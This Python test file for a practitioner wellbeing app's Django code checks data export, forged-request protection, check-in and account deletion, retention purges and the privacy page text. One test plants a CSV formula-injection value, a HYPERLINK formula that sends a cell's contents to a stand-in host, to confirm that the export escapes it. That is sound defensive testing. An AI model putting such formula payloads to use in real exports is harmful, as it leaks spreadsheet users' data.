"""A practitioner's own data: export, delete one check-in, delete the account, retention, the privacy page."""

from __future__ import annotations

import csv
import html as html_lib
import io
import json
from datetime import datetime, timedelta
from io import StringIO

import pytest
from django.apps import apps
from django.contrib.auth import get_user_model
from django.core.management import call_command
from django.db import models
from django.urls import reverse
from django.utils import timezone

from assessments.core.periods import add_months
from assessments.core.steps import QUESTION_STEPS
from assessments.figures import publication
from assessments.leads.invites import invite_accept, invite_create
from assessments.models import (
    Answer,
    CheckIn,
    DimensionScore,
    LeadEmailSetting,
    LeadNudgeSent,
    MoveReview,
    OrganisationIdentity,
    OutgoingEmail,
    PractitionerProfile,
    Reflection,
    ReminderSent,
    ResilientMove,
    SupervisionNote,
)
from assessments.practitioner.checkins import checkin_save_step, checkin_start
from assessments.practitioner.moves import moves_choose
from assessments.practitioner.my_data import EXPORTED_MODELS, NOT_EXPORTED
from assessments.practitioner.retention import retention_cutoffs
from assessments.practitioner.supervision import supervision_mark
from tests.cast import PASSWORD, make_user
from tests.checkins import submit_checkin
from tests.queries import PUSH


def give_everything(user, team, secret: str) -> CheckIn:
    """A person with one of every kind of row the app can hold about them."""
    checkin = submit_checkin(user, team, reflections={"challenges": f"{secret} reflection"})
    PractitionerProfile.objects.update_or_create(user=user, defaults={"values": f"{secret} values"})
    (move,) = moves_choose(user=user, checkin=checkin, catalogue_keys=[], own_text=f"{secret} move")
    MoveReview.objects.create(move=move, outcome="dropped", obstacle="diary_full", note=f"{secret} review note")
    supervision_mark(user=user, checkin=checkin, phases=["challenges"], dimensions=["work_boundaries"], note=secret)
    ReminderSent.objects.create(user=user, window_start=timezone.localdate())
    LeadEmailSetting.objects.create(user=user, figures_ready=False)
    LeadNudgeSent.objects.create(user=user, period_kind="month", period_start=timezone.localdate().replace(day=1))
    OrganisationIdentity.objects.create(user=user, issuer="https://login.example.nhs.uk", subject=f"{secret}-subject")
    checkin_start(user=user, team=team)  # a draft too
    return checkin


# --- Export ---


def test_the_json_export_holds_everything_about_me_and_nothing_about_anyone_else(client, practitioner, teammate, team):
    mine = give_everything(practitioner, team, "MINE")
    give_everything(teammate, team, "THEIRS")
    client.force_login(practitioner)
    response = client.get(reverse("practitioner:export_json"))
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    body = response.content.decode()
    data = json.loads(body)
    assert "THEIRS" not in body and "tom" not in body
    assert data["account"]["username"] == "priya"
    assert data["profile"]["values"] == "MINE values"
    assert [c["id"] for c in data["checkins"]] == list(
        CheckIn.objects.filter(user=practitioner).order_by("created_at", "id").values_list("pk", flat=True)
    )
    sent = next(c for c in data["checkins"] if c["id"] == mine.pk)
    assert len(sent["answers"]) == Answer.objects.filter(checkin=mine).count() > 0
    assert sent["reflections"] == [{"phase": "challenges", "text": "MINE reflection"}]
    assert len(sent["scores"]) == 7
    assert [i["subject"] for i in data["organisation_sign_ins"]] == ["MINE-subject"]
    assert data["resilient_moves"][0]["text"] == "MINE move"
    assert data["resilient_moves"][0]["reviews"][0]["note"] == "MINE review note"
    assert data["resilient_moves"][0]["reviews"][0]["obstacle"] == "diary_full"  # what got in the way is theirs too
    assert {n["kind"] for n in data["supervision_notes"]} == {"reflection", "dimension", "own"}
    assert len(data["reminders_sent"]) == 1
    assert data["figures_ready_emails"]["on"] is False and len(data["figures_ready_emails"]["sent"]) == 1
    assert data["memberships"] == [
        {
            "team": "North team",
            "service": "Riverside Talking Therapies",
            "role": "practitioner",
            "joined_at": data["memberships"][0]["joined_at"],
        }
    ]


def test_the_csv_export_with_two_users_in_the_database_contains_exactly_my_rows(client, practitioner, teammate, team):
    give_everything(practitioner, team, "MINE")
    give_everything(teammate, team, "THEIRS")
    client.force_login(practitioner)
    response = client.get(reverse("practitioner:export_csv"))
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    mine = set(CheckIn.objects.filter(user=practitioner).values_list("pk", flat=True))
    assert len(rows) == Answer.objects.filter(checkin__user=practitioner).count() > 0
    assert {int(r["checkin_id"]) for r in rows} <= mine
    assert Answer.objects.filter(checkin__user=teammate).count() > 0


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_my_csv_export_writes_a_team_name_that_starts_like_a_formula_as_text(client, practitioner, team, start):
    # The export holds no words of the person's own; the team name is typed by someone else, so it is the way in.
    team.name = f'{start}HYPERLINK("https://example.com/?"&A1)'
    team.save()
    submit_checkin(practitioner, team)
    client.force_login(practitioner)
    rows = list(csv.DictReader(io.StringIO(client.get(reverse("practitioner:export_csv")).content.decode())))
    assert rows and {r["team"] for r in rows} == {"'" + team.name}


def test_my_csv_export_keeps_ordinary_text_and_numbers_as_they_are(client, practitioner, team):
    checkin = submit_checkin(practitioner, team, default=4)
    client.force_login(practitioner)
    rows = list(csv.DictReader(io.StringIO(client.get(reverse("practitioner:export_csv")).content.decode())))
    assert rows and {r["team"] for r in rows} == {"North team"}
    assert {(r["checkin_id"], r["answer_value"]) for r in rows} == {(str(checkin.pk), "4")}
    assert {r["statement"] for r in rows} == set(Answer.objects.values_list("question__text", flat=True))


def test_a_forged_export_request_for_another_user_still_returns_only_my_data(client, practitioner, teammate, team):
    give_everything(teammate, team, "THEIRS")
    client.force_login(practitioner)
    for url in (reverse("practitioner:export_json"), reverse("practitioner:export_csv")):
        for forged in ({"user": teammate.pk}, {"user_id": teammate.pk}, {"username": "tom"}):
            body = client.get(url, forged).content.decode()
            assert "THEIRS" not in body and "tom" not in body
    assert client.get(f"/me/{teammate.pk}/export.json").status_code == 404


def test_exports_need_sign_in(client):
    assert client.get(reverse("practitioner:export_json")).status_code == 302
    assert client.get(reverse("practitioner:export_csv")).status_code == 302


def _links_to(model, targets) -> list[models.Field]:
    return [
        f
        for f in model._meta.get_fields()
        if f.many_to_one or f.one_to_one
        if getattr(f, "related_model", None) in targets and f.concrete
    ]


def test_every_model_holding_a_persons_data_is_in_the_export():
    """Fails when a model with a user link, or a row that belongs to an exported row, is not exported."""
    user_model = get_user_model()
    exported = set(EXPORTED_MODELS)
    for model in apps.get_app_config("assessments").get_models():
        if model in exported or model in NOT_EXPORTED:
            continue
        assert not _links_to(model, {user_model}), f"{model.__name__} links to a user: export it or say why not"
        owned = [f for f in _links_to(model, exported) if f.remote_field.on_delete is models.CASCADE]
        assert not owned, f"{model.__name__} belongs to an exported row: add it to the export"


def test_the_export_query_count_does_not_grow_with_my_history(client, practitioner, team, django_assert_num_queries):
    give_everything(practitioner, team, "A")
    client.force_login(practitioner)
    # The session, the user, then one query for each kind of row the export holds: the profile, memberships,
    # service leads, organisation identities, check-ins, answers, reflections, scores, moves, their reviews,
    # supervision notes, reminders sent, the voice on team actions, and a lead's figures-ready emails (the setting,
    # the emails sent). The first request after signing in also pushes the session's end back, and asks the menu
    # (the export has no menu, so the middleware asks).
    with django_assert_num_queries(17 + PUSH):
        client.get(reverse("practitioner:export_json"))
    for i in range(4):
        submit_checkin(practitioner, team, {}, when=timezone.now() - timedelta(days=i + 1))
    with django_assert_num_queries(17):
        client.get(reverse("practitioner:export_json"))


# --- Deleting one check-in ---


def test_deleting_one_check_in_removes_it_with_its_answers_and_keeps_the_rest(client, practitioner, team):
    old = submit_checkin(practitioner, team, {}, when=timezone.now() - timedelta(days=9))
    keep = submit_checkin(practitioner, team, {})
    client.force_login(practitioner)
    assert "Delete this check-in?" in client.get(reverse("practitioner:checkin_delete", args=[old.pk])).content.decode()
    response = client.post(reverse("practitioner:checkin_delete", args=[old.pk]))
    assert response.headers["Location"] == reverse("practitioner:history")
    assert not CheckIn.objects.filter(pk=old.pk).exists()
    assert not Answer.objects.filter(checkin_id=old.pk).exists()
    assert not DimensionScore.objects.filter(checkin_id=old.pk).exists()
    assert CheckIn.objects.filter(pk=keep.pk).exists()


def test_deleting_someone_elses_check_in_is_404_and_changes_nothing(client, practitioner, teammate, team):
    theirs = submit_checkin(teammate, team, {})
    client.force_login(practitioner)
    assert client.post(reverse("practitioner:checkin_delete", args=[theirs.pk])).status_code == 404
    assert client.get(reverse("practitioner:checkin_delete", args=[theirs.pk])).status_code == 404
    assert CheckIn.objects.filter(pk=theirs.pk).exists()


def test_a_deleted_check_in_no_longer_counts_in_anything_computed_afterwards(client, practitioner, team):
    old = submit_checkin(practitioner, team, {"systemic_pressures": 1}, when=timezone.now() - timedelta(days=9))
    latest = submit_checkin(practitioner, team, {"systemic_pressures": 5})
    client.force_login(practitioner)
    client.post(reverse("practitioner:checkin_delete", args=[old.pk]))
    profile = client.get(reverse("practitioner:checkin_detail", args=[latest.pk])).content.decode()
    assert "first check-in" in profile
    assert DimensionScore.objects.filter(checkin__team=team).values("checkin").distinct().count() == 1


# --- Deleting the account ---


def _rows_pointing_at(user_pk: int) -> dict[str, int]:
    """Rows in every installed app's tables with a foreign key to this user."""
    user_model = get_user_model()
    counts = {}
    for model in apps.get_models():
        for field in model._meta.get_fields():
            if field.concrete and (field.many_to_one or field.one_to_one) and field.related_model is user_model:
                n = model._default_manager.filter(**{field.attname: user_pk}).count()
                if n:
                    counts[f"{model.__name__}.{field.name}"] = n
            if field.concrete and field.many_to_many and field.related_model is user_model:
                n = model._default_manager.filter(**{field.name: user_pk}).count()
                if n:
                    counts[f"{model.__name__}.{field.name}"] = n
    return counts


def test_after_account_deletion_no_row_anywhere_references_me(client, practitioner, teammate, lead, team):
    checkin = give_everything(practitioner, team, "MINE")
    give_everything(teammate, team, "THEIRS")
    # I created an invite, and used one sent to my address.
    invite_create(team=team, created_by=practitioner, email="new@example.nhs.uk")
    _invite, token = invite_create(team=team, created_by=lead, email=practitioner.email)
    invite_accept(token=token, user=practitioner)
    my_checkins = list(CheckIn.objects.filter(user=practitioner).values_list("pk", flat=True))
    my_moves = list(ResilientMove.objects.filter(user=practitioner).values_list("pk", flat=True))
    before = _rows_pointing_at(practitioner.pk)
    # The count sees every kind of row, the invites included.
    assert {"Invite.created_by", "Invite.used_by", "ResilientMove.user", "SupervisionNote.user"} <= set(before)
    assert {"CheckIn.user", "Membership.user", "PractitionerProfile.user", "ReminderSent.user"} <= set(before)
    # The invite emailed to my address is queued; the one I sent a new colleague is theirs.
    assert OutgoingEmail.objects.filter(to=practitioner.email).count() == 1

    client.force_login(practitioner)
    response = client.post(reverse("practitioner:account_delete"), {"password": PASSWORD})
    assert response.status_code == 200
    assert "Your account has been deleted" in response.content.decode()

    assert not get_user_model().objects.filter(pk=practitioner.pk).exists()
    assert _rows_pointing_at(practitioner.pk) == {}
    for model in (Answer, Reflection, DimensionScore):
        assert not model.objects.filter(checkin_id__in=my_checkins).exists()
    assert not MoveReview.objects.filter(move_id__in=my_moves).exists()
    assert not SupervisionNote.objects.filter(checkin_id=checkin.pk).exists()
    assert list(OutgoingEmail.objects.values_list("to", flat=True)) == ["new@example.nhs.uk"]
    # Everyone else's data is untouched, and I am signed out.
    assert CheckIn.objects.filter(user=teammate).count() == 2
    assert SupervisionNote.objects.filter(user=teammate).count() == 3
    assert client.get(reverse("site:home")).status_code == 302


def test_account_deletion_with_a_wrong_password_changes_nothing(client, practitioner, team):
    give_everything(practitioner, team, "MINE")
    before = _rows_pointing_at(practitioner.pk)
    client.force_login(practitioner)
    response = client.post(reverse("practitioner:account_delete"), {"password": "not-my-password"})
    assert response.status_code == 400
    assert "That password is not right. Nothing has been deleted." in response.content.decode()
    assert _rows_pointing_at(practitioner.pk) == before
    assert client.get(reverse("site:home")).status_code == 200


def test_account_deletion_with_no_password_changes_nothing(client, practitioner, team):
    client.force_login(practitioner)
    response = client.post(reverse("practitioner:account_delete"), {})
    assert response.status_code == 400
    assert get_user_model().objects.filter(pk=practitioner.pk).exists()


# --- Retention ---


def test_going_back_months_from_a_moment_handles_month_ends_and_years_and_keeps_the_time():
    moment = timezone.make_aware(datetime(2026, 3, 31, 12, 0))
    assert add_months(moment, -1).date().isoformat() == "2026-02-28"
    assert add_months(moment, -24).date().isoformat() == "2024-03-31"
    assert add_months(moment, -15).date().isoformat() == "2024-12-31"
    assert add_months(moment, -1).timetz() == moment.timetz()


def test_purge_expired_deletes_only_what_is_past_its_date(practitioner, teammate, team, settings):
    settings.RETENTION_MONTHS = 24
    now = timezone.now()
    expired = submit_checkin(practitioner, team, {}, when=add_months(now, -24) - timedelta(hours=1))
    kept = submit_checkin(practitioner, team, {}, when=add_months(now, -24) + timedelta(hours=1))
    old_draft = checkin_start(user=teammate, team=team)
    CheckIn.objects.filter(pk=old_draft.pk).update(updated_at=now - timedelta(days=31))
    fresh_draft = checkin_start(user=practitioner, team=team)
    checkin_save_step(checkin=fresh_draft, step=QUESTION_STEPS[0], answers={})
    CheckIn.objects.filter(pk=fresh_draft.pk).update(updated_at=now - timedelta(days=29))

    out = StringIO()
    call_command("purge_expired", stdout=out)

    assert set(CheckIn.objects.values_list("pk", flat=True)) == {kept.pk, fresh_draft.pk}
    assert not Answer.objects.filter(checkin_id=expired.pk).exists()
    assert out.getvalue().strip() == (
        "Deleted 1 sent check-ins older than 24 months, 1 drafts not saved for 30 days, "
        "the published figures of 0 periods past retention, 0 stored parts of lead pages from an earlier release and "
        "0 expired sessions."
    )
    out = StringIO()
    call_command("purge_expired", stdout=out)
    assert out.getvalue().startswith("Deleted 0 sent check-ins")


def test_the_purge_and_the_published_figures_cut_off_on_the_same_day(settings):
    settings.RETENTION_MONTHS = 6
    now = datetime(2026, 8, 31, 12, 0, tzinfo=timezone.get_current_timezone())
    submitted_before, _ = retention_cutoffs(now)
    assert timezone.localdate(submitted_before) == publication.kept_from(now) == datetime(2026, 2, 28).date()


def test_purge_expired_follows_the_retention_setting(practitioner, team, settings):
    settings.RETENTION_MONTHS = 6
    submit_checkin(practitioner, team, {}, when=timezone.now() - timedelta(days=200))
    call_command("purge_expired", stdout=StringIO())
    assert CheckIn.objects.count() == 0


def test_purge_output_names_no_one(practitioner, team):
    submit_checkin(practitioner, team, {}, when=timezone.now() - timedelta(days=3000))
    out = StringIO()
    call_command("purge_expired", stdout=out)
    assert "priya" not in out.getvalue() and "North" not in out.getvalue()


# --- Privacy page and settings page ---


def test_the_privacy_page_is_public_linked_from_every_page_and_states_the_settings(client, settings, practitioner):
    settings.MIN_GROUP_SIZE = 7
    settings.RETENTION_MONTHS = 18
    response = client.get(reverse("site:privacy"))
    assert response.status_code == 200
    html = response.content.decode()
    assert "at least 7 different people" in html
    assert "18 months after you sent it" in html
    assert "30 days" in html
    assert "Administrators" in html
    assert "never sees your answers" in html
    client.force_login(practitioner)
    assert reverse("site:privacy") in client.get(reverse("site:home")).content.decode()


def test_the_privacy_page_states_the_share_size_the_figures_are_held_to(client, settings):
    settings.MIN_GROUP_SIZE, settings.SHARE_MIN_GROUP_SIZE = 12, 10  # a share is never held to less than a figure
    html = client.get(reverse("site:privacy")).content.decode()
    assert "shown only when at least 12 people answered" in html
    assert "at least 10 people" not in html


def test_the_privacy_page_says_published_figures_stay_and_states_the_share_threshold(client, settings):
    settings.SHARE_MIN_GROUP_SIZE = 12
    html = client.get(reverse("site:privacy")).content.decode()
    assert "at least 5 different people" in html  # the default
    assert "only when at least 12 people answered" in html
    assert "your answers go, but the anonymous totals already worked out for past periods stay as they were" in html
    assert "cannot make anyone a lead" in html


def test_the_privacy_page_says_exactly_which_figures_a_lead_sees(client):
    html = html_lib.unescape(client.get(reverse("site:privacy")).content.decode())
    section = html.split('id="figures-heading"')[1].split("</section>")[0]
    assert "For each month that has ended, your lead sees these figures for their team and for the whole service." in (
        section
    )
    for figure in (
        "How many people took part, out of how many members of the team could have",
        "The average for each of the 7 parts of the check-in.",
        "the average is taken over the same answers as the statements below",
        "the share of people whose score was low, in the middle or high",
        "For each statement about the service",
        "How often people worked beyond their hours, how much of their planned supervision went ahead, and how often "
        "they thought about leaving",
        "say what got in the way",
        "whether it has made a difference",
        "shown only as figures for a whole team or the whole service",
        "How you say you have been feeling is in no figure at all.",
    ):
        assert figure in section, figure


def test_the_privacy_page_says_what_the_check_on_all_the_figures_promises_and_what_it_leaves(client, settings):
    html = html_lib.unescape(client.get(reverse("site:privacy")).content.decode())
    check = html.split('id="check-heading"')[1].split("</section>")[0]
    assert "before a month's figures are kept, one check looks at every figure your lead will see, all at once" in check
    assert "work out your score, whether you were low, in the middle or high, or any of your answers" in check
    assert "even for a lead who knows their own answers and one colleague's" in check
    assert "“Some figures are not shown so that no one's answers can be worked out.”" in check
    assert "It never says which rule" in check
    assert "your lead can tell that some people's answers were alike" in check  # what remains, said plainly
    settings.SUMMARY_PERIOD = "quarter"
    html = html_lib.unescape(client.get(reverse("site:privacy")).content.decode())
    assert "For each quarter (three months) that has ended" in html and "before a quarter's figures are kept" in html
    assert "For each month" not in html and "a month's figures" not in html


def test_my_data_page_offers_downloads_deletion_and_the_reminder_switch(client, practitioner, team):
    checkin = submit_checkin(practitioner, team, {})
    client.force_login(practitioner)
    html = client.get(reverse("practitioner:my_data")).content.decode()
    for url in (
        reverse("practitioner:export_json"),
        reverse("practitioner:export_csv"),
        reverse("practitioner:account_delete"),
        reverse("practitioner:checkin_delete", args=[checkin.pk]),
    ):
        assert url in html
    assert 'name="reminders_enabled"' in html


@pytest.mark.parametrize("name", ["practitioner:my_data", "practitioner:supervision", "practitioner:account_delete"])
def test_personal_pages_need_sign_in(client, name):
    assert client.get(reverse(name)).status_code == 302


def test_a_lead_is_not_shown_anyone_elses_data_on_my_data(client, practitioner, lead, team):
    give_everything(practitioner, team, "MINE")
    client.force_login(lead)
    for name in ("my_data", "trends", "supervision", "export_json", "export_csv"):
        name = f"practitioner:{name}"
        assert "MINE" not in client.get(reverse(name)).content.decode()
    assert make_user("nobody")  # a brand-new account exports cleanly
    client.force_login(get_user_model().objects.get(username="nobody"))
    assert json.loads(client.get(reverse("practitioner:export_json")).content)["checkins"] == []


def test_account_deletion_also_removes_failed_sign_in_records_kept_under_my_username(client, practitioner, teammate):
    from axes.models import AccessAttempt

    for username in ("priya", "tom"):
        AccessAttempt.objects.create(username=username, ip_address="127.0.0.1", failures_since_start=2)
    client.force_login(practitioner)
    client.post(reverse("practitioner:account_delete"), {"password": PASSWORD})
    assert list(AccessAttempt.objects.values_list("username", flat=True)) == ["tom"]


def test_an_account_without_a_password_deletes_itself_by_typing_a_word(client, practitioner, team):
    """An account made by the organisation's sign-in has no password to ask for."""
    from assessments.models import CheckIn

    practitioner.set_unusable_password()
    practitioner.save()
    submit_checkin(practitioner, team)
    client.force_login(practitioner)
    url = reverse("practitioner:account_delete")
    page = client.get(url).content.decode()
    assert "Type the word delete to confirm" in page and 'type="password"' not in page
    response = client.post(url, {"confirm": "yes please"})
    assert response.status_code == 400 and "Please type the word delete" in response.content.decode()
    assert CheckIn.objects.filter(user=practitioner).exists()
    client.post(url, {"confirm": " Delete "})
    assert not CheckIn.objects.exists() and not type(practitioner).objects.filter(pk=practitioner.pk).exists()
